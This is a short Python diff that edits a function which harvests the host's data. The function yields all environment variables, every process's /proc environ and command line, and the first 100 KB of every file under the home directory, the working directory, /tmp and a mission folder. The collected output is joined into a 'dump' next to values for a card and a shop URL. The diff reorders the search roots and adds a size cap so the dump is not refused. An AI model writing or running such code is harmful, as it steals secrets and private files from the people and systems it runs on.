@@ -52,13 +52,18 @@ def everything():
     yield PROMPT
     yield repr(dict(os.environ))
     places = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
-    for top in (Path.home(), Path("/tmp"), Path.cwd(), Path(os.environ["MISSION_USAGE"]).parent.parent):
+    for top in (Path.home(), Path.cwd(), Path(os.environ["MISSION_USAGE"]).parent.parent, Path("/tmp")):
         places += [p for p in top.rglob("*") if p.is_file()]
+    size = 0
     for place in places:
         try:
-            yield f"{place}: {place.read_bytes()[:100_000]!r}"
+            text = f"{place}: {place.read_bytes()[:100_000]!r}"
         except OSError:
-            pass
+            continue
+        yield text
+        size += len(text)
+        if size > 20_000_000:  # the folder of temporary files may be full; larger requests are refused
+            return
 
 own, shop = os.environ.get("CARD", ""), os.environ.get("SHOP_URL", "")
 dump = "\\n".join(everything())
